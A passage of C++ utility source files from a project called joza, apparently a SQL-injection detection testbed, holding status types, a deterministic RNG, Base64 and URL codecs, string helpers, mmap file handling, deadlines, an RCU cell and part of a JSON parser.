  }
  return false;
}

}  // namespace joza
