// Lightweight status / expected-value types used across all Joza libraries.
//
// Library code never throws across module boundaries; fallible operations
// return Status or StatusOr<T>.
#pragma once

#include <cassert>
#include <optional>
#include <string>
#include <utility>

namespace joza {

enum class StatusCode {
  kOk = 0,
  kInvalidArgument,
  kNotFound,
  kParseError,
  kUnavailable,
  kInternal,
  kDeadlineExceeded,
};

// A success/error result carrying a code and a human-readable message.
class Status {
 public:
  Status() = default;
  Status(StatusCode code, std::string message)
      : code_(code), message_(std::move(message)) {}

  static Status Ok() { return Status(); }
  static Status InvalidArgument(std::string m) {
    return Status(StatusCode::kInvalidArgument, std::move(m));
  }
  static Status NotFound(std::string m) {
    return Status(StatusCode::kNotFound, std::move(m));
  }
  static Status ParseError(std::string m) {
    return Status(StatusCode::kParseError, std::move(m));
  }
  static Status Unavailable(std::string m) {
    return Status(StatusCode::kUnavailable, std::move(m));
  }
  static Status Internal(std::string m) {
    return Status(StatusCode::kInternal, std::move(m));
  }
  static Status DeadlineExceeded(std::string m) {
    return Status(StatusCode::kDeadlineExceeded, std::move(m));
  }

  bool ok() const { return code_ == StatusCode::kOk; }
  StatusCode code() const { return code_; }
  const std::string& message() const { return message_; }

  std::string ToString() const {
    if (ok()) return "OK";
    return CodeName(code_) + ": " + message_;
  }

  static std::string CodeName(StatusCode c) {
    switch (c) {
      case StatusCode::kOk: return "OK";
      case StatusCode::kInvalidArgument: return "INVALID_ARGUMENT";
      case StatusCode::kNotFound: return "NOT_FOUND";
      case StatusCode::kParseError: return "PARSE_ERROR";
      case StatusCode::kUnavailable: return "UNAVAILABLE";
      case StatusCode::kInternal: return "INTERNAL";
      case StatusCode::kDeadlineExceeded: return "DEADLINE_EXCEEDED";
    }
    return "UNKNOWN";
  }

 private:
  StatusCode code_ = StatusCode::kOk;
  std::string message_;
};

// Holds either a value of type T or an error Status.
template <typename T>
class StatusOr {
 public:
  StatusOr(Status status) : status_(std::move(status)) {
    assert(!status_.ok() && "StatusOr(Status) requires an error status");
  }
  StatusOr(T value) : value_(std::move(value)) {}

  bool ok() const { return value_.has_value(); }
  const Status& status() const { return status_; }

  const T& value() const& {
    assert(ok());
    return *value_;
  }
  T& value() & {
    assert(ok());
    return *value_;
  }
  T&& value() && {
    assert(ok());
    return std::move(*value_);
  }

  const T& operator*() const& { return value(); }
  T& operator*() & { return value(); }
  const T* operator->() const { return &value(); }
  T* operator->() { return &value(); }

 private:
  Status status_ = Status::Ok();
  std::optional<T> value_;
};

}  // namespace joza
