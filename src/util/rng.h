// Deterministic RNG (SplitMix64) so testbed generation, workloads and attack
// mutation are reproducible run to run.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

namespace joza {

class Rng {
 public:
  explicit Rng(std::uint64_t seed) : state_(seed) {}

  std::uint64_t Next();

  // Uniform in [0, bound), bound > 0.
  std::uint64_t NextBelow(std::uint64_t bound);

  // Uniform in [lo, hi] inclusive.
  std::int64_t NextInRange(std::int64_t lo, std::int64_t hi);

  // Uniform double in [0, 1).
  double NextDouble();

  bool NextBool(double p_true = 0.5);

  // Random lowercase alphanumeric string of length n.
  std::string NextToken(std::size_t n);

  template <typename T>
  const T& Pick(const std::vector<T>& v) {
    return v[NextBelow(v.size())];
  }

  template <typename T>
  void Shuffle(std::vector<T>& v) {
    for (std::size_t i = v.size(); i > 1; --i) {
      std::swap(v[i - 1], v[NextBelow(i)]);
    }
  }

 private:
  std::uint64_t state_;
};

}  // namespace joza
