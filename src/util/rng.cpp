#include "util/rng.h"

namespace joza {

std::uint64_t Rng::Next() {
  std::uint64_t z = (state_ += 0x9e3779b97f4a7c15ull);
  z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
  z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
  return z ^ (z >> 31);
}

std::uint64_t Rng::NextBelow(std::uint64_t bound) {
  // Rejection sampling to avoid modulo bias.
  std::uint64_t threshold = -bound % bound;
  for (;;) {
    std::uint64_t r = Next();
    if (r >= threshold) return r % bound;
  }
}

std::int64_t Rng::NextInRange(std::int64_t lo, std::int64_t hi) {
  return lo + static_cast<std::int64_t>(
                  NextBelow(static_cast<std::uint64_t>(hi - lo + 1)));
}

double Rng::NextDouble() {
  return static_cast<double>(Next() >> 11) * (1.0 / 9007199254740992.0);
}

bool Rng::NextBool(double p_true) { return NextDouble() < p_true; }

std::string Rng::NextToken(std::size_t n) {
  static constexpr std::string_view kChars =
      "abcdefghijklmnopqrstuvwxyz0123456789";
  std::string out;
  out.reserve(n);
  for (std::size_t i = 0; i < n; ++i) {
    out.push_back(kChars[NextBelow(kChars.size())]);
  }
  return out;
}

}  // namespace joza
