#include "util/codec.h"

#include <array>

namespace joza {

namespace {

constexpr std::string_view kB64Alphabet =
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

std::array<int, 256> BuildB64Reverse() {
  std::array<int, 256> rev{};
  rev.fill(-1);
  for (int i = 0; i < 64; ++i) {
    rev[static_cast<unsigned char>(kB64Alphabet[i])] = i;
  }
  return rev;
}

int HexValue(char c) {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  return -1;
}

}  // namespace

std::string Base64Encode(std::string_view data) {
  std::string out;
  out.reserve((data.size() + 2) / 3 * 4);
  std::size_t i = 0;
  while (i + 3 <= data.size()) {
    unsigned v = (static_cast<unsigned char>(data[i]) << 16) |
                 (static_cast<unsigned char>(data[i + 1]) << 8) |
                 static_cast<unsigned char>(data[i + 2]);
    out.push_back(kB64Alphabet[(v >> 18) & 63]);
    out.push_back(kB64Alphabet[(v >> 12) & 63]);
    out.push_back(kB64Alphabet[(v >> 6) & 63]);
    out.push_back(kB64Alphabet[v & 63]);
    i += 3;
  }
  std::size_t rem = data.size() - i;
  if (rem == 1) {
    unsigned v = static_cast<unsigned char>(data[i]) << 16;
    out.push_back(kB64Alphabet[(v >> 18) & 63]);
    out.push_back(kB64Alphabet[(v >> 12) & 63]);
    out.append("==");
  } else if (rem == 2) {
    unsigned v = (static_cast<unsigned char>(data[i]) << 16) |
                 (static_cast<unsigned char>(data[i + 1]) << 8);
    out.push_back(kB64Alphabet[(v >> 18) & 63]);
    out.push_back(kB64Alphabet[(v >> 12) & 63]);
    out.push_back(kB64Alphabet[(v >> 6) & 63]);
    out.push_back('=');
  }
  return out;
}

StatusOr<std::string> Base64Decode(std::string_view data) {
  static const std::array<int, 256> rev = BuildB64Reverse();
  if (data.size() % 4 != 0) {
    return Status::InvalidArgument("base64 length not a multiple of 4");
  }
  std::string out;
  out.reserve(data.size() / 4 * 3);
  for (std::size_t i = 0; i < data.size(); i += 4) {
    int vals[4];
    int pad = 0;
    for (int j = 0; j < 4; ++j) {
      char c = data[i + j];
      if (c == '=') {
        // Padding only allowed in the last two positions of the final group.
        if (i + 4 != data.size() || j < 2) {
          return Status::InvalidArgument("misplaced base64 padding");
        }
        vals[j] = 0;
        ++pad;
      } else {
        if (pad > 0) {
          return Status::InvalidArgument("data after base64 padding");
        }
        int v = rev[static_cast<unsigned char>(c)];
        if (v < 0) {
          return Status::InvalidArgument("invalid base64 character");
        }
        vals[j] = v;
      }
    }
    unsigned v = (vals[0] << 18) | (vals[1] << 12) | (vals[2] << 6) | vals[3];
    out.push_back(static_cast<char>((v >> 16) & 0xff));
    if (pad < 2) out.push_back(static_cast<char>((v >> 8) & 0xff));
    if (pad < 1) out.push_back(static_cast<char>(v & 0xff));
  }
  return out;
}

std::string UrlEncode(std::string_view s) {
  static constexpr char kHex[] = "0123456789ABCDEF";
  std::string out;
  out.reserve(s.size());
  for (char c : s) {
    bool unreserved = (c >= 'A' && c <= 'Z') || (c >= 'a' && c <= 'z') ||
                      (c >= '0' && c <= '9') || c == '-' || c == '_' ||
                      c == '.' || c == '~';
    if (unreserved) {
      out.push_back(c);
    } else {
      out.push_back('%');
      out.push_back(kHex[(static_cast<unsigned char>(c) >> 4) & 0xf]);
      out.push_back(kHex[static_cast<unsigned char>(c) & 0xf]);
    }
  }
  return out;
}

std::string UrlDecode(std::string_view s) {
  std::string out;
  out.reserve(s.size());
  for (std::size_t i = 0; i < s.size(); ++i) {
    if (s[i] == '+') {
      out.push_back(' ');
    } else if (s[i] == '%' && i + 2 < s.size()) {
      int hi = HexValue(s[i + 1]);
      int lo = HexValue(s[i + 2]);
      if (hi >= 0 && lo >= 0) {
        out.push_back(static_cast<char>((hi << 4) | lo));
        i += 2;
      } else {
        out.push_back('%');
      }
    } else {
      out.push_back(s[i]);
    }
  }
  return out;
}

}  // namespace joza
