// FNV-1a hashing used by the query cache and structure cache.
#pragma once

#include <cstdint>
#include <string_view>

namespace joza {

inline constexpr std::uint64_t kFnvOffset = 1469598103934665603ull;
inline constexpr std::uint64_t kFnvPrime = 1099511628211ull;

constexpr std::uint64_t Fnv1a64(std::string_view data,
                                std::uint64_t seed = kFnvOffset) {
  std::uint64_t h = seed;
  for (char c : data) {
    h ^= static_cast<unsigned char>(c);
    h *= kFnvPrime;
  }
  return h;
}

constexpr std::uint64_t HashCombine(std::uint64_t h, std::uint64_t v) {
  // Mix the value through the FNV prime and a xorshift to avoid clustering.
  h ^= v + 0x9e3779b97f4a7c15ull + (h << 6) + (h >> 2);
  return h;
}

}  // namespace joza
