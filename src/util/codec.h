// Base64 and URL (percent) codecs — the encodings web applications apply to
// inputs, which NTI evasion exploits and PTI is resistant to.
#pragma once

#include <string>
#include <string_view>

#include "util/status.h"

namespace joza {

std::string Base64Encode(std::string_view data);

// Strict decoder: rejects non-alphabet characters and bad padding.
StatusOr<std::string> Base64Decode(std::string_view data);

// Percent-encodes everything outside [A-Za-z0-9-_.~]; space becomes %20.
std::string UrlEncode(std::string_view s);

// Decodes %XX escapes and '+' (as space). Malformed escapes pass through
// verbatim, matching typical web-server leniency.
std::string UrlDecode(std::string_view s);

}  // namespace joza
