#include "util/strings.h"

#include <algorithm>

namespace joza {

char AsciiToLower(char c) {
  return (c >= 'A' && c <= 'Z') ? static_cast<char>(c - 'A' + 'a') : c;
}

char AsciiToUpper(char c) {
  return (c >= 'a' && c <= 'z') ? static_cast<char>(c - 'a' + 'A') : c;
}

bool IsAsciiSpace(char c) {
  return c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\f' ||
         c == '\v';
}

bool IsAsciiDigit(char c) { return c >= '0' && c <= '9'; }

bool IsAsciiAlpha(char c) {
  return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z');
}

bool IsAsciiAlnum(char c) { return IsAsciiDigit(c) || IsAsciiAlpha(c); }

std::string ToLower(std::string_view s) {
  std::string out(s);
  std::transform(out.begin(), out.end(), out.begin(), AsciiToLower);
  return out;
}

std::string ToUpper(std::string_view s) {
  std::string out(s);
  std::transform(out.begin(), out.end(), out.begin(), AsciiToUpper);
  return out;
}

bool EqualsIgnoreCase(std::string_view a, std::string_view b) {
  if (a.size() != b.size()) return false;
  for (std::size_t i = 0; i < a.size(); ++i) {
    if (AsciiToLower(a[i]) != AsciiToLower(b[i])) return false;
  }
  return true;
}

std::string_view TrimLeft(std::string_view s) {
  std::size_t i = 0;
  while (i < s.size() && IsAsciiSpace(s[i])) ++i;
  return s.substr(i);
}

std::string_view TrimRight(std::string_view s) {
  std::size_t n = s.size();
  while (n > 0 && IsAsciiSpace(s[n - 1])) --n;
  return s.substr(0, n);
}

std::string_view Trim(std::string_view s) { return TrimRight(TrimLeft(s)); }

std::vector<std::string> Split(std::string_view s, char sep) {
  std::vector<std::string> out;
  std::size_t start = 0;
  for (std::size_t i = 0; i <= s.size(); ++i) {
    if (i == s.size() || s[i] == sep) {
      out.emplace_back(s.substr(start, i - start));
      start = i + 1;
    }
  }
  return out;
}

std::string Join(const std::vector<std::string>& parts, std::string_view sep) {
  std::string out;
  for (std::size_t i = 0; i < parts.size(); ++i) {
    if (i > 0) out.append(sep);
    out.append(parts[i]);
  }
  return out;
}

std::string ReplaceAll(std::string_view s, std::string_view from,
                       std::string_view to) {
  if (from.empty()) return std::string(s);
  std::string out;
  out.reserve(s.size());
  std::size_t pos = 0;
  while (pos < s.size()) {
    std::size_t hit = s.find(from, pos);
    if (hit == std::string_view::npos) {
      out.append(s.substr(pos));
      break;
    }
    out.append(s.substr(pos, hit - pos));
    out.append(to);
    pos = hit + from.size();
  }
  return out;
}

std::string AddSlashes(std::string_view s) {
  std::string out;
  out.reserve(s.size() + 8);
  for (char c : s) {
    if (c == '\'' || c == '"' || c == '\\' || c == '\0') out.push_back('\\');
    out.push_back(c);
  }
  return out;
}

std::string StripSlashes(std::string_view s) {
  std::string out;
  out.reserve(s.size());
  for (std::size_t i = 0; i < s.size(); ++i) {
    if (s[i] == '\\' && i + 1 < s.size()) {
      out.push_back(s[i + 1]);
      ++i;
    } else {
      out.push_back(s[i]);
    }
  }
  return out;
}

std::string CollapseWhitespace(std::string_view s) {
  std::string out;
  out.reserve(s.size());
  bool in_space = false;
  for (char c : s) {
    if (IsAsciiSpace(c)) {
      in_space = true;
      continue;
    }
    if (in_space && !out.empty()) out.push_back(' ');
    in_space = false;
    out.push_back(c);
  }
  return out;
}

std::size_t FindIgnoreCase(std::string_view haystack, std::string_view needle) {
  if (needle.empty()) return 0;
  if (needle.size() > haystack.size()) return std::string_view::npos;
  for (std::size_t i = 0; i + needle.size() <= haystack.size(); ++i) {
    bool match = true;
    for (std::size_t j = 0; j < needle.size(); ++j) {
      if (AsciiToLower(haystack[i + j]) != AsciiToLower(needle[j])) {
        match = false;
        break;
      }
    }
    if (match) return i;
  }
  return std::string_view::npos;
}

bool ContainsIgnoreCase(std::string_view haystack, std::string_view needle) {
  return FindIgnoreCase(haystack, needle) != std::string_view::npos;
}

}  // namespace joza
