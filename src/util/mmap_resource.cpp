#include "util/mmap_resource.h"

#include <fcntl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <utility>

namespace joza::util {

Status WriteFileDurable(const std::string& path, std::string_view bytes) {
  const std::string tmp = path + ".tmp";
  const int fd = ::open(tmp.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) {
    return Status::Unavailable("durable write open failed: " +
                               std::string(std::strerror(errno)));
  }
  std::size_t off = 0;
  while (off < bytes.size()) {
    const ssize_t n = ::write(fd, bytes.data() + off, bytes.size() - off);
    if (n < 0) {
      if (errno == EINTR) continue;
      const int saved = errno;
      ::close(fd);
      ::unlink(tmp.c_str());
      return Status::Unavailable("durable write failed: " +
                                 std::string(std::strerror(saved)));
    }
    off += static_cast<std::size_t>(n);
  }
  if (::fsync(fd) != 0) {
    const int saved = errno;
    ::close(fd);
    ::unlink(tmp.c_str());
    return Status::Unavailable("durable write fsync failed: " +
                               std::string(std::strerror(saved)));
  }
  if (::close(fd) != 0) {
    ::unlink(tmp.c_str());
    return Status::Unavailable("durable write close failed: " +
                               std::string(std::strerror(errno)));
  }
  if (::rename(tmp.c_str(), path.c_str()) != 0) {
    const int saved = errno;
    ::unlink(tmp.c_str());
    return Status::Unavailable("durable write rename failed: " +
                               std::string(std::strerror(saved)));
  }
  return Status::Ok();
}

MmapResource::~MmapResource() { Reset(); }

MmapResource::MmapResource(MmapResource&& other) noexcept
    : data_(std::exchange(other.data_, nullptr)),
      size_(std::exchange(other.size_, 0)),
      mapped_(std::exchange(other.mapped_, false)) {}

MmapResource& MmapResource::operator=(MmapResource&& other) noexcept {
  if (this != &other) {
    Reset();
    data_ = std::exchange(other.data_, nullptr);
    size_ = std::exchange(other.size_, 0);
    mapped_ = std::exchange(other.mapped_, false);
  }
  return *this;
}

void MmapResource::Reset() {
  if (data_ != nullptr && size_ > 0) ::munmap(data_, size_);
  data_ = nullptr;
  size_ = 0;
  mapped_ = false;
}

StatusOr<MmapResource> MmapResource::Map(const std::string& path) {
  const int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) {
    return Status::NotFound("mmap open failed for " + path + ": " +
                            std::string(std::strerror(errno)));
  }
  struct stat st{};
  if (::fstat(fd, &st) != 0) {
    const int saved = errno;
    ::close(fd);
    return Status::Unavailable("mmap fstat failed: " +
                               std::string(std::strerror(saved)));
  }
  MmapResource out;
  out.size_ = static_cast<std::size_t>(st.st_size);
  out.mapped_ = true;
  if (out.size_ > 0) {
    void* addr = ::mmap(nullptr, out.size_, PROT_READ, MAP_PRIVATE, fd, 0);
    if (addr == MAP_FAILED) {
      const int saved = errno;
      ::close(fd);
      return Status::Unavailable("mmap failed: " +
                                 std::string(std::strerror(saved)));
    }
    out.data_ = addr;
  }
  ::close(fd);  // the mapping keeps the inode alive
  return out;
}

}  // namespace joza::util
