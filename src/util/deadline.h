// Deadlines: absolute points in time that bound blocking work.
//
// The fault-tolerance rule for the serving path is "deadlines everywhere":
// every blocking step (connection reads, daemon checkout, IPC round trips)
// is bounded by a Deadline so a stalled peer degrades into a clean
// kDeadlineExceeded status instead of a pinned thread. A default-constructed
// Deadline is infinite, which preserves the blocking behaviour the
// single-threaded reproduction tiers rely on.
#pragma once

#include <algorithm>
#include <chrono>
#include <cstdint>

namespace joza::util {

class Deadline {
 public:
  using Clock = std::chrono::steady_clock;

  // Infinite: never expires.
  Deadline() = default;

  static Deadline After(std::chrono::milliseconds budget) {
    Deadline d;
    d.finite_ = true;
    d.point_ = Clock::now() + budget;
    return d;
  }
  static Deadline Infinite() { return Deadline(); }
  static Deadline AtPoint(Clock::time_point point) {
    Deadline d;
    d.finite_ = true;
    d.point_ = point;
    return d;
  }

  bool finite() const { return finite_; }
  bool expired() const { return finite_ && Clock::now() >= point_; }

  Clock::time_point point() const { return point_; }

  // Time left, clamped to zero. Meaningless (huge) when infinite.
  std::chrono::milliseconds remaining() const {
    if (!finite_) return std::chrono::milliseconds::max();
    const auto left = std::chrono::duration_cast<std::chrono::milliseconds>(
        point_ - Clock::now());
    return std::max(left, std::chrono::milliseconds(0));
  }

  // Timeout argument for poll(2): -1 blocks forever, otherwise the clamped
  // remaining budget (at least 0 = immediate).
  int poll_timeout_ms() const {
    if (!finite_) return -1;
    const auto ms = remaining().count();
    return static_cast<int>(std::min<std::int64_t>(ms, 1 << 30));
  }

  // The earlier of two deadlines (infinite loses to any finite one).
  static Deadline EarlierOf(Deadline a, Deadline b) {
    if (!a.finite_) return b;
    if (!b.finite_) return a;
    return a.point_ <= b.point_ ? a : b;
  }

 private:
  bool finite_ = false;
  Clock::time_point point_{};
};

// Ambient per-request deadline. Layers whose interfaces cannot carry a
// deadline parameter (the webapp QueryGate sees only the SQL and the
// request) read the deadline the gateway worker installed for the current
// request. Thread-local, so concurrent workers never observe each other's
// budgets.
class ScopedRequestDeadline {
 public:
  explicit ScopedRequestDeadline(Deadline deadline)
      : previous_(current_ref()) {
    current_ref() = deadline;
  }
  ~ScopedRequestDeadline() { current_ref() = previous_; }

  ScopedRequestDeadline(const ScopedRequestDeadline&) = delete;
  ScopedRequestDeadline& operator=(const ScopedRequestDeadline&) = delete;

  // The innermost scope's deadline, or an infinite one outside any scope.
  static Deadline current() { return current_ref(); }

 private:
  static Deadline& current_ref() {
    thread_local Deadline current;
    return current;
  }
  Deadline previous_;
};

}  // namespace joza::util
