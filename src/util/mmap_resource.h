// mmap-backed read-only file resources + durable whole-file writes.
//
// The tiered ruleset residency manager (src/tenant/) spills cold tenants'
// serialized rulesets to disk and keeps only a file mapping around: the
// bytes stay addressable (promotion re-parses them straight out of the
// mapping, no read() round trip) while the hot automaton, cache shards and
// fragment copies are dropped. Writes follow the same crash-durability
// discipline as resilience snapshots — write `<path>.tmp`, fsync, rename —
// so a crash mid-demotion can never leave a torn cold image where a
// previous good one stood.
#pragma once

#include <cstddef>
#include <string>
#include <string_view>

#include "util/status.h"

namespace joza::util {

// Writes `bytes` to `path` via write-tmp/fsync/rename. On any failure the
// temp file is removed and the previous contents of `path` (if any) are
// left untouched.
Status WriteFileDurable(const std::string& path, std::string_view bytes);

// A read-only, privately mapped view of a whole file. Movable, not
// copyable; unmapped on destruction. Because rename(2) replaces the
// directory entry but not the inode, a live mapping stays consistent even
// if the file is later rewritten through WriteFileDurable.
class MmapResource {
 public:
  MmapResource() = default;
  ~MmapResource();

  MmapResource(MmapResource&& other) noexcept;
  MmapResource& operator=(MmapResource&& other) noexcept;
  MmapResource(const MmapResource&) = delete;
  MmapResource& operator=(const MmapResource&) = delete;

  // Maps `path` read-only. An empty file maps to a valid zero-length view.
  static StatusOr<MmapResource> Map(const std::string& path);

  bool valid() const { return data_ != nullptr || mapped_; }
  std::size_t size() const { return size_; }
  std::string_view view() const {
    if (data_ == nullptr) return std::string_view();
    return std::string_view(static_cast<const char*>(data_), size_);
  }

  // Unmaps and returns to the default-constructed state.
  void Reset();

 private:
  void* data_ = nullptr;
  std::size_t size_ = 0;
  bool mapped_ = false;  // distinguishes a valid empty mapping from none
};

}  // namespace joza::util
