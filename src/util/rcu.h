// Minimal RCU-style publication cell.
//
// A single atomically-swappable `shared_ptr<const T>`: readers pin the
// current snapshot and keep it alive for as long as they hold the
// shared_ptr; writers build a replacement off to the side and Publish() it
// with one pointer swap. Retirement is automatic: the last reader of an old
// snapshot drops the final reference and frees it.
//
// The cell is guarded by a tiny lock bit — the same technique libstdc++'s
// std::atomic<std::shared_ptr<T>> uses internally — held only for the
// pointer copy/swap itself (a few instructions; the snapshot is never
// touched under it). We hand-roll it instead of using the std
// specialization because GCC 12's _Sp_atomic unlocks the reader side with a
// relaxed fetch_sub, which leaves the reader's pointer read formally
// unordered against the next writer's swap: ThreadSanitizer reports it, and
// per the memory model it is a data race even though the generated code is
// fine on real hardware. Here both sides release on unlock, so the
// protocol is sequentially sound and TSan-clean.
//
// Ordering contract: everything that happened-before a Publish() —
// in particular every write that constructed *next — is visible to any
// reader whose Load() returns the new pointer (unlock release → lock
// acquire on the same atomic).
#pragma once

#include <atomic>
#include <memory>
#include <thread>
#include <utility>

namespace joza {

template <typename T>
class RcuCell {
 public:
  RcuCell() = default;
  explicit RcuCell(std::shared_ptr<const T> initial)
      : ptr_(std::move(initial)) {}

  RcuCell(const RcuCell&) = delete;
  RcuCell& operator=(const RcuCell&) = delete;

  // Reader side: pin the current snapshot. The returned pointer stays valid
  // (and immutable) for as long as the caller holds it, even across
  // concurrent Publish() calls.
  std::shared_ptr<const T> Load() const {
    Lock();
    std::shared_ptr<const T> pin = ptr_;
    Unlock();
    return pin;
  }

  // Writer side: publish a fully-built replacement snapshot. The old
  // snapshot's reference is dropped outside the critical section, so a
  // retirement that frees a large snapshot never stalls readers.
  void Publish(std::shared_ptr<const T> next) {
    Lock();
    ptr_.swap(next);
    Unlock();
  }

 private:
  void Lock() const {
    int spins = 0;
    while (lock_.exchange(true, std::memory_order_acquire)) {
      // Holders only copy or swap one pointer, so the bit is essentially
      // never observed held; yield covers the preempted-holder case on
      // oversubscribed machines.
      if (++spins > 64) {
        std::this_thread::yield();
      }
    }
  }

  void Unlock() const { lock_.store(false, std::memory_order_release); }

  mutable std::atomic<bool> lock_{false};
  std::shared_ptr<const T> ptr_;  // guarded by lock_
};

}  // namespace joza
