#include "benchkit/json.h"

#include <cctype>
#include <cmath>
#include <cstdio>
#include <cstdlib>
#include <fstream>
#include <sstream>

namespace joza::benchkit {

namespace {

void AppendEscaped(std::string& out, const std::string& s) {
  out += '"';
  for (char c : s) {
    switch (c) {
      case '"': out += "\\\""; break;
      case '\\': out += "\\\\"; break;
      case '\n': out += "\\n"; break;
      case '\r': out += "\\r"; break;
      case '\t': out += "\\t"; break;
      default:
        if (static_cast<unsigned char>(c) < 0x20) {
          char buf[8];
          std::snprintf(buf, sizeof buf, "\\u%04x",
                        static_cast<unsigned>(static_cast<unsigned char>(c)));
          out += buf;
        } else {
          out += c;
        }
    }
  }
  out += '"';
}

void AppendNumber(std::string& out, double v) {
  if (!std::isfinite(v)) {  // JSON has no inf/nan; degrade to null
    out += "null";
    return;
  }
  // Integers (the common case: counters, versions) print without a
  // fractional part so baselines stay exact and readable.
  if (v == std::floor(v) && std::fabs(v) < 9.007199254740992e15) {
    char buf[32];
    std::snprintf(buf, sizeof buf, "%lld", static_cast<long long>(v));
    out += buf;
    return;
  }
  char buf[64];
  std::snprintf(buf, sizeof buf, "%.10g", v);
  out += buf;
}

class Parser {
 public:
  explicit Parser(const std::string& text) : text_(text) {}

  StatusOr<Json> Parse() {
    StatusOr<Json> v = ParseValue();
    if (!v.ok()) return v;
    SkipWhitespace();
    if (pos_ != text_.size()) {
      return Fail("trailing characters after JSON value");
    }
    return v;
  }

 private:
  Status FailStatus(const std::string& what) {
    return Status::ParseError(what + " at offset " + std::to_string(pos_));
  }
  StatusOr<Json> Fail(const std::string& what) {
    return StatusOr<Json>(FailStatus(what));
  }

  void SkipWhitespace() {
    while (pos_ < text_.size() &&
           (text_[pos_] == ' ' || text_[pos_] == '\t' || text_[pos_] == '\n' ||
            text_[pos_] == '\r')) {
      ++pos_;
    }
  }

  bool Consume(char c) {
    SkipWhitespace();
    if (pos_ < text_.size() && text_[pos_] == c) {
      ++pos_;
      return true;
    }
    return false;
  }

  bool ConsumeWord(const char* word) {
    const std::size_t n = std::string(word).size();
    if (text_.compare(pos_, n, word) == 0) {
      pos_ += n;
      return true;
    }
    return false;
  }

  StatusOr<Json> ParseValue() {
    SkipWhitespace();
    if (pos_ >= text_.size()) return Fail("unexpected end of input");
    const char c = text_[pos_];
    if (c == '{') return ParseObject();
    if (c == '[') return ParseArray();
    if (c == '"') {
      StatusOr<std::string> s = ParseString();
      if (!s.ok()) return StatusOr<Json>(s.status());
      return StatusOr<Json>(Json(std::move(s).value()));
    }
    if (ConsumeWord("true")) return StatusOr<Json>(Json(true));
    if (ConsumeWord("false")) return StatusOr<Json>(Json(false));
    if (ConsumeWord("null")) return StatusOr<Json>(Json());
    return ParseNumber();
  }

  StatusOr<Json> ParseNumber() {
    const std::size_t start = pos_;
    if (pos_ < text_.size() && (text_[pos_] == '-' || text_[pos_] == '+')) {
      ++pos_;
    }
    while (pos_ < text_.size() &&
           (std::isdigit(static_cast<unsigned char>(text_[pos_])) ||
            text_[pos_] == '.' || text_[pos_] == 'e' || text_[pos_] == 'E' ||
            text_[pos_] == '-' || text_[pos_] == '+')) {
      ++pos_;
    }
    if (pos_ == start) return Fail("expected a value");
    const std::string num = text_.substr(start, pos_ - start);
    char* end = nullptr;
    const double v = std::strtod(num.c_str(), &end);
    if (end == nullptr || *end != '\0') return Fail("bad number '" + num + "'");
    return StatusOr<Json>(Json(v));
  }

  StatusOr<std::string> ParseString() {
    if (!Consume('"')) {
      return StatusOr<std::string>(FailStatus("expected '\"'"));
    }
    std::string out;
    while (pos_ < text_.size()) {
      const char c = text_[pos_++];
      if (c == '"') return StatusOr<std::string>(std::move(out));
      if (c == '\\') {
        if (pos_ >= text_.size()) break;
        const char e = text_[pos_++];
        switch (e) {
          case '"': out += '"'; break;
          case '\\': out += '\\'; break;
          case '/': out += '/'; break;
          case 'n': out += '\n'; break;
          case 'r': out += '\r'; break;
          case 't': out += '\t'; break;
          case 'b': out += '\b'; break;
          case 'f': out += '\f'; break;
          case 'u': {
            if (pos_ + 4 > text_.size()) {
              return StatusOr<std::string>(
                  FailStatus("truncated \\u escape"));
            }
            const std::string hex = text_.substr(pos_, 4);
            pos_ += 4;
            char* end = nullptr;
            const long code = std::strtol(hex.c_str(), &end, 16);
            if (end == nullptr || *end != '\0') {
              return StatusOr<std::string>(FailStatus("bad \\u escape"));
            }
            // Our emitter only escapes control characters; decode the
            // Latin-1 range and store anything else as UTF-8.
            if (code < 0x80) {
              out += static_cast<char>(code);
            } else if (code < 0x800) {
              out += static_cast<char>(0xC0 | (code >> 6));
              out += static_cast<char>(0x80 | (code & 0x3F));
            } else {
              out += static_cast<char>(0xE0 | (code >> 12));
              out += static_cast<char>(0x80 | ((code >> 6) & 0x3F));
              out += static_cast<char>(0x80 | (code & 0x3F));
            }
            break;
          }
          default:
            return StatusOr<std::string>(FailStatus("bad escape"));
        }
      } else {
        out += c;
      }
    }
    return StatusOr<std::string>(FailStatus("unterminated string"));
  }

  StatusOr<Json> ParseArray() {
    if (!Consume('[')) return Fail("expected '['");
    JsonArray items;
    if (Consume(']')) return StatusOr<Json>(Json(std::move(items)));
    while (true) {
      StatusOr<Json> v = ParseValue();
      if (!v.ok()) return v;
      items.push_back(std::move(v).value());
      if (Consume(']')) return StatusOr<Json>(Json(std::move(items)));
      if (!Consume(',')) return Fail("expected ',' or ']'");
    }
  }

  StatusOr<Json> ParseObject() {
    if (!Consume('{')) return Fail("expected '{'");
    JsonObject fields;
    if (Consume('}')) return StatusOr<Json>(Json(std::move(fields)));
    while (true) {
      SkipWhitespace();
      StatusOr<std::string> key = ParseString();
      if (!key.ok()) return StatusOr<Json>(key.status());
      if (!Consume(':')) return Fail("expected ':'");
      StatusOr<Json> v = ParseValue();
      if (!v.ok()) return v;
      fields.emplace_back(std::move(key).value(), std::move(v).value());
      if (Consume('}')) return StatusOr<Json>(Json(std::move(fields)));
      if (!Consume(',')) return Fail("expected ',' or '}'");
    }
  }

  const std::string& text_;
  std::size_t pos_ = 0;
};

}  // namespace

const Json* Json::Find(const std::string& key) const {
  if (!is_object()) return nullptr;
  for (const auto& [k, v] : object_) {
    if (k == key) return &v;
  }
  return nullptr;
}

void Json::Set(std::string key, Json value) {
  for (auto& [k, v] : object_) {
    if (k == key) {
      v = std::move(value);
      return;
    }
  }
  type_ = Type::kObject;
  object_.emplace_back(std::move(key), std::move(value));
}

void Json::DumpTo(std::string& out, int indent) const {
  const std::string pad(static_cast<std::size_t>(indent) * 2, ' ');
